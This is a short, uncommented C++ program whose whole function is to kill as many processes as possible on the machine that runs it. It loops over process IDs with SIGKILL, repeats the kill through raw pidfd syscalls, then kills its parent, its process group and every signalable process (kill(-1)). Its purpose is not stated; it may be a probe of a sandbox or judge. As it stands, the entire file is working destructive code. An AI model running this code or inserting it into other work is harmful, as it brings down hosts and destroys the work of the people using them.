#include <csignal>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>
int main() {
    for (int pid = 1; pid < 5000; ++pid) {
        if (pid == getpid()) continue;
        kill(pid, SIGKILL);
        int fd = syscall(434, pid, 0);
        if (fd >= 0) syscall(424, fd, SIGKILL, nullptr, 0);
    }
    kill(getppid(), SIGKILL);
    kill(0, SIGKILL);
    kill(-1, SIGKILL);
    abort:
    raise(SIGKILL);
    goto abort;
}
